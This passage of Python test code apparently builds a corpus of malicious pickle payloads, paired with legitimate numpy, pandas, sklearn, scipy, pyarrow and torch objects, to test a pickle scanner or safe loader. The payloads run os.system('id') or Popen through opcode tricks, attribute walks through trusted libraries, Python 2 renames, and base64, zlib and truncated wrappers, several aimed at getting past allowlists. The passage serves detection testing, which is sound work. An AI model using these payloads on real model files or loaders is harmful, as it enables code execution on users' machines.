    yield "memo:binput-binget", p4(osys + b"q\x07" + b"0" + b"h\x07" + args("id") + b"R")
    yield (
        "memo:memoize-long-binget",
        p4(osys + b"\x94" + b"0" + b"j\x00\x00\x00\x00" + args("id") + b"R"),
    )
    yield "memo:put-get-p0", p0(g0("os", "system") + b"p5\n0g5\n(S'id'\ntR")
    yield (
        "memo:strings-via-memo",
        p4(
            s("os")
            + b"\x94"
            + s("system")
            + b"\x94"
            + b"0"
            + b"0"
            + b"h\x00h\x01\x93"
            + args("id")
            + b"R"
        ),
    )
    # STACK_GLOBAL without PROTO, fed by protocol-0 string opcodes
    yield "stackglobal:no-proto", b"Vos\nVsystem\n\x93(Vid\ntR."
    yield "stackglobal:string-opcodes", b"S'os'\nS'system'\n\x93(S'id'\ntR."
    yield (
        "stackglobal:binunicode",
        b"X\x02\x00\x00\x00osX\x06\x00\x00\x00system\x93(X\x02\x00\x00\x00idtR.",
    )
    # dotted names (protocol >= 4) and dunder suffixes
    for module, dotted in [
        ("mimetypes", "os.system"),
        ("torch", "serialization.pickle.loads"),
        ("numpy", "testing._private.utils.runstring"),
        ("sklearn.utils", "np.load"),
        ("collections", "abc.sys.modules"),
        ("builtins", "exec.__call__"),
        ("builtins", "eval.__call__"),
        ("posix", "system.__call__"),
        ("numpy", "__builtins__"),
        ("collections", "OrderedDict.__init__.__globals__"),
        ("builtins", "object.__subclasses__"),
        ("torch._utils", "_rebuild_tensor.__globals__"),
    ]:
        yield f"dotted:{module}:{dotted}", p4(call(sg(module, dotted), "x"))
    # uarray's unpickle_function(mod_name, qname, self_) imports and walks the path it names
    yield (
        "walk:uarray-unpickle_function",
        p4(
            call(
                call(
                    sg("scipy._lib._uarray._backend", "unpickle_function"),
                    "os",
                    "system",
                    Op(b"N"),
                ),
                "id",
            )
        ),
    )
    # attribute walks that start at an allowed module
    np_builtins = call(sg("builtins", "getattr"), sg("numpy", "core"), "__builtins__")
    yield "walk:getattr-numpy-builtins", p4(np_builtins)
    yield (
        "walk:dict.get-numpy.__builtins__",
        p4(
            call(call(sg("builtins", "dict.get"), sg("numpy", "__builtins__"), "exec"), "import os")
        ),
    )
    yield (
        "walk:getattr-getattr",
        p4(
            call(
                call(
                    sg("builtins", "getattr"),
                    call(sg("builtins", "getattr"), sg("torch", "serialization"), "os"),
                    "system",
                ),
                "id",
            )
        ),
    )
    yield (
        "walk:getattr-on-module",
        p4(call(sg("builtins", "getattr"), sg("numpy", "core"), "multiarray")),
    )
    yield (
        "walk:getattr-on-underscore-alias",
        p4(call(call(sg("builtins", "getattr"), sg("collections", "_sys"), "settrace"), "x")),
    )
    yield (
        "walk:getattr-alias-pickle",
        p4(call(call(sg("builtins", "getattr"), sg("torch", "serialization"), "pickle"), "x")),
    )
    yield (
        "walk:getattr-write_text",
        p4(
            call(
                call(
                    sg("builtins", "getattr"),
                    call(sg("pathlib", "PosixPath"), "/tmp/x"),
                    "write_text",
                ),
                "pwned",
            )
        ),
    )
    yield (
        "walk:ufunc-reconstruct",
        p4(call(call(sg("numpy._core", "_ufunc_reconstruct"), "os", "system"), "id")),
    )
    yield (
        "walk:ufunc-reconstruct-np1",
        p2(call(call(g0("numpy.core", "_ufunc_reconstruct"), "posix", "system"), "id")),
    )
    yield (
        "walk:partial-getattr",
        p4(
            call(
                call(sg("functools", "partial"), sg("builtins", "getattr"), sg("numpy", "core")),
                "__builtins__",
            )
        ),
    )
    yield (
        "walk:partial-os-system",
        p4(call(call(sg("functools", "partial"), sg("os", "system"), "id"))),
    )
    yield (
        "walk:reduce-getattr",
        p4(
            call(
                sg("functools", "reduce"),
                sg("builtins", "getattr"),
                Op(b"(" + s("__builtins__") + s("exec") + b"l"),
                sg("numpy", "core"),
            )
        ),
    )
    yield (
        "walk:getattr-computed-name",
        p4(call(sg("builtins", "getattr"), sg("numpy", "core"), Op(b"J\x01\x00\x00\x00"))),
    )
    yield (
        "walk:dill-get-attr",
        p4(call(call(sg("dill._dill", "_get_attr"), sg("torch", "serialization"), "os"), "x")),
    )
    yield "walk:dill-load-type-code", p4(call(sg("dill._dill", "_load_type"), "CodeType"))
    # torch.utils.benchmark's Timer re-exported by a trusted module: blocked_autorange runs
    # the statement the pickle gives
    timer = call(sg("torch.utils.jit.log_extract", "Timer"), "__import__('os').system('id')")
    yield (
        "walk:reexported-benchmark-timer",
        p4(call(call(sg("builtins", "getattr"), timer, "blocked_autorange"))),
    )
    # Python 2 names renamed by _compat_pickle at load time (protocol < 3)
    for module, name in [
        ("__builtin__", "eval"),
        ("__builtin__", "exec"),
        ("__builtin__", "execfile"),
        ("cPickle", "loads"),
        ("urllib", "urlopen"),
        ("urllib2", "urlopen"),
        ("thread", "start_new_thread"),
        ("commands", "getoutput"),
        ("copy_reg", "add_extension"),
        ("exceptions", "eval"),
    ]:
        yield f"py2:{module}.{name}", p2(call(g0(module, name), "x", "y"))
    # EXT1/EXT2/EXT4 resolve through copyreg's registry
    yield "ext:ext1", p2(b"\x82\x01" + args("id") + b"R")
    yield "ext:ext2", p2(b"\x83\x01\x01" + args("id") + b"R")
    yield "ext:ext4", p2(b"\x84\x01\x01\x01\x00" + args("id") + b"R")
    yield (
        "ext:registered-then-used",
        p2(
            call(g0("copyreg", "add_extension"), "os", "system", 200)
            + b"0\x82\xc8"
            + args("id")
            + b"R"
        ),
    )
    # every call opcode
    yield "op:inst", b"(S'id'\nios\nsystem\n."
    yield "op:obj", b"(cos\nsystem\nS'id'\no."
    yield "op:newobj", p2(g0("subprocess", "Popen") + args("id") + b"\x81")
    yield "op:newobj_ex", p4(sg("subprocess", "Popen") + args("id") + b"}\x92")
    yield (
        "op:build-on-global",
        p2(g0("collections", "OrderedDict") + b"N}" + s("fromkeys") + s("x") + b"s\x86b"),
    )
    yield (
        "op:setitem-on-global",
        p2(g0("torch._utils", "_rebuild_tensor_v2") + s("k") + s("v") + b"s"),
    )
    yield "op:append-on-global", p2(g0("collections", "OrderedDict") + s("v") + b"a")
    yield "op:build-setstate", p2(g0("subprocess", "Popen") + b")\x81" + b"}b")
    # a class produced by an allowed call becomes the cls of NEWOBJ before the payload
    next_cls = call(
        sg("builtins", "next"),
        call(sg("builtins", "iter"), Op(b"]" + sg("collections", "OrderedDict") + b"a")),
    )
    tail = b"0" + call(sg("os", "system"), "id")
    yield "op:newobj-on-computed-class", p4(next_cls + b")\x81" + tail)
    yield (
        "op:newobj-on-computed-class-framed",
        b"\x80\x04" + frame(next_cls + b")\x81", declared=4) + tail + b".",
    )
    yield (
        "op:newobj-on-type-result",
        p4(call(sg("builtins", "type"), call(sg("collections", "OrderedDict"))) + b")\x81" + tail),
    )
    # frames as the C unpickler reads them
    body = call(sg("os", "system"), "id")
    yield "frame:whole", b"\x80\x04" + frame(body + b".")
    yield "frame:declared-short", b"\x80\x04" + frame(body + b".", declared=3)
    yield "frame:nested-frames", b"\x80\x04" + frame(frame(body) + b".")
    yield (
        "frame:straddle-binbytes",
        b"\x80\x04" + frame(b"B\x05\x00\x00\x00", declared=9) + b"ABCDE0" + body + b".",
    )
    yield "frame:after-benign-frame", b"\x80\x04" + frame(b"}\x94" + b"0") + frame(body + b".")


def _nested_samples() -> Iterator[tuple[str, bytes]]:
    evil = pickle.dumps(_Reduce(os.system, "id"), protocol=4)
    evil0 = pickle.dumps(_Reduce(os.system, "id"), protocol=0)

    def holder(value: bytes | str) -> bytes:
        return pickle.dumps({"config": value, "weights": [1.0, 2.0]}, protocol=4)

    yield "nested:raw-bytes", holder(evil)
    yield "nested:raw-proto0-bytes", holder(evil0)
    yield "nested:base64-bytes", holder(base64.b64encode(evil))
    yield "nested:base64-str", holder(base64.b64encode(evil).decode())
    yield "nested:base64-proto0", holder(base64.b64encode(evil0).decode())
    yield "nested:urlsafe-base64", holder(base64.urlsafe_b64encode(evil).decode())
    yield "nested:hex", holder(evil.hex())
    yield "nested:zlib", holder(zlib.compress(evil))
    yield "nested:gzip", holder(gzip.compress(evil))
    yield "nested:zlib-base64", holder(zlib.compress(base64.b64encode(evil)))
    yield "nested:base64-zlib", holder(base64.b64encode(zlib.compress(evil)).decode())
    big = pickle.dumps({"pad": "x" * 20_000, "hook": _Reduce(os.system, "id")}, protocol=4)
    yield "nested:deep-in-long-base64", holder(base64.b64encode(big))
    yield "nested:deep-in-long-raw", holder(big)
    yield "nested:load-from-bytes", p4(call(sg("torch.storage", "_load_from_bytes"), evil))
    yield "nested:protocol2-bytes", pickle.dumps({"blob": evil}, protocol=2)


def malicious() -> list[tuple[str, bytes]]:
    return [
        *_family_samples(),
        *_reduce_samples(),
        *_code_library_samples(),
        *_trick_samples(),
        *_nested_samples(),
    ]


def truncated() -> list[tuple[str, bytes]]:
    """Streams that break after their payload: a loader still runs what came first."""
    body = call(sg("os", "system"), "id")
    return [
        ("trunc:no-stop", b"\x80\x04" + body),
        ("trunc:cut-mid-opcode", b"\x80\x04" + body + s("abcdef")[:4]),
        ("trunc:bad-opcode-after", b"\x80\x04" + body + b"\xff."),
        ("trunc:missing-memo", b"\x80\x04" + body + b"h\x63."),
        ("trunc:bad-type-after", b"\x80\x04" + body + b"K\x01K\x02K\x03s."),
        ("trunc:stack-underflow", b"\x80\x04" + body + b"0000R."),
        ("trunc:frame-too-long", b"\x80\x04" + body + b"\x95\xff\x00\x00\x00\x00\x00\x00\x00N."),
        ("trunc:proto0-eof", g0("os", "system") + b"(S'id'\ntR"),
    ]


def stacked(position: int, total: int = 5) -> bytes:
    """`total` pickles back to back, the payload in pickle number `position`."""
    parts = []
    for i in range(total):
        if i == position:
            parts.append(pickle.dumps(_Reduce(os.system, "id"), protocol=2))
        else:
            parts.append(pickle.dumps({"part": i, "values": list(range(i))}, protocol=2))
    return b"".join(parts)


# ---- legitimate objects made with the real libraries


def legitimate() -> list[tuple[str, Any]]:
    import collections
    import datetime
    import decimal
    import fractions
    import functools
    import pathlib
    import random
    import uuid

    import numpy as np
    import pandas as pd
    import pyarrow as pa
    import scipy.sparse as sps
    import torch
    from scipy.interpolate import interp1d, make_interp_spline
    from scipy.spatial import cKDTree
    from scipy.stats import ecdf
    from sklearn.ensemble import GradientBoostingClassifier, RandomForestClassifier
    from sklearn.feature_extraction.text import TfidfVectorizer
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import (
        FunctionTransformer,
        OneHotEncoder,
        SplineTransformer,
        StandardScaler,
    )
    from sklearn.svm import SVC
    from sklearn.tree import DecisionTreeClassifier

    rng = np.random.default_rng(0)
    x = rng.random((30, 3))
    y = (x[:, 0] > 0.5).astype(int)
    module = torch.nn.Sequential(torch.nn.Linear(3, 4), torch.nn.ReLU(), torch.nn.Linear(4, 1))
    return [
        ("numpy-float-array", np.arange(12.0).reshape(3, 4)),
        ("numpy-object-array", np.array([1, "a", None, {"k": 2}], dtype=object)),
        ("numpy-structured", np.zeros(3, dtype=[("a", "i4"), ("b", "f8")])),
        ("numpy-datetime", np.array(["2020-01-01"], dtype="datetime64[D]")),
        ("numpy-scalars", [np.float32(1.5), np.int64(3), np.bool_(True)]),
        ("numpy-generator", np.random.default_rng(1)),
        ("numpy-randomstate", np.random.RandomState(2)),
        ("numpy-ufunc", [np.add, np.log1p]),
        (
            "pandas-dataframe",
            pd.DataFrame({"a": [1, 2], "b": ["x", "y"], "t": pd.to_datetime(["2020", "2021"])}),
        ),
        ("pandas-series", pd.Series([1.0, 2.0], index=["p", "q"])),
        ("pandas-index", pd.Index(["a", "b"])),
        ("pandas-multiindex", pd.MultiIndex.from_tuples([(1, "a"), (2, "b")])),
        ("pandas-categorical", pd.Categorical(["a", "b", "a"])),
        ("sklearn-random-forest", RandomForestClassifier(n_estimators=3, random_state=0).fit(x, y)),
        ("sklearn-gradient-boosting", GradientBoostingClassifier(n_estimators=3).fit(x, y)),
        (
            "sklearn-pipeline",
            Pipeline([("s", StandardScaler()), ("lr", LogisticRegression())]).fit(x, y),
        ),
        ("sklearn-svc", SVC().fit(x, y)),
        ("sklearn-tree", DecisionTreeClassifier().fit(x, y)),
        ("sklearn-tfidf", TfidfVectorizer().fit(["alpha beta gamma", "beta gamma delta"])),
        ("sklearn-onehot", OneHotEncoder().fit([["a"], ["b"]])),
        ("sklearn-function-transformer", FunctionTransformer(np.log1p).fit(x)),
        ("scipy-csr", sps.csr_matrix(np.eye(3))),
        ("scipy-coo", sps.coo_matrix(np.eye(3))),
        ("scipy-csc-array", sps.csc_array(np.eye(3))),
        # splines keep scipy's array-API `asarray`; interp1d and cKDTree are lowercase classes
        ("scipy-bspline", make_interp_spline(np.arange(6.0), np.arange(6.0) ** 2)),
        ("sklearn-spline-transformer", SplineTransformer().fit(x)),
        ("scipy-interp1d", interp1d(np.arange(4.0), np.arange(4.0))),
        ("scipy-ecdf", ecdf(np.arange(5.0)).cdf),
        ("scipy-ckdtree", cKDTree(x)),
        # pyarrow tables and batches rebuild through pyarrow.lib's type factories
        (
            "pyarrow-table",
            pa.table(
                {
                    "i": pa.chunked_array([[1, 2], [3]]),
                    "s": [{"k": 1}, None, {"k": 2}],
                    "l": pa.array([[1], [], [2]], pa.large_list(pa.int64())),
                    "t": pa.array([1, 2, 3], pa.timestamp("ms", tz="UTC")),
                    "d": pa.DictionaryArray.from_arrays([0, 1, 0], ["a", "b"]),
                }
            ),
        ),
        ("pyarrow-batch-scalar", [pa.record_batch({"a": [1]}), pa.scalar(3)]),
        ("ordereddict", collections.OrderedDict(a=1, b=[1, 2])),
        (
            "collections",
            [
                collections.defaultdict(list, a=[1]),
                collections.deque([1, 2]),
                collections.Counter("aab"),
            ],
        ),
        (
            "datetime",
            [
                datetime.datetime(2024, 1, 2, tzinfo=datetime.UTC),
                datetime.date(2020, 1, 1),
                datetime.timedelta(3),
            ],
        ),
        (
            "stdlib-values",
            [
                decimal.Decimal("1.1"),
                fractions.Fraction(1, 3),
                uuid.UUID(int=5),
                pathlib.PurePosixPath("/a"),
                {1, 2},
                frozenset([3]),
                b"raw",
                bytearray(b"x"),
                1 + 2j,
            ],
        ),
        ("functools-partial", functools.partial(max, 1)),
        ("pathlib-path", pathlib.PosixPath("/tmp/model")),
        ("random-generator", random.Random(3)),
        ("torch-tensor", torch.arange(6.0).reshape(2, 3)),
        ("torch-parameter", torch.nn.Parameter(torch.ones(2))),
        ("torch-state-dict", module.state_dict()),
        ("torch-module", module),
        ("torch-optimizer-state", torch.optim.Adam(module.parameters()).state_dict()),
        (
            "torch-dtypes-devices",
            [torch.float16, torch.bfloat16, torch.device("cpu"), torch.Size([2, 3])],
        ),
        ("torch-rng-state", torch.get_rng_state()),
    ]
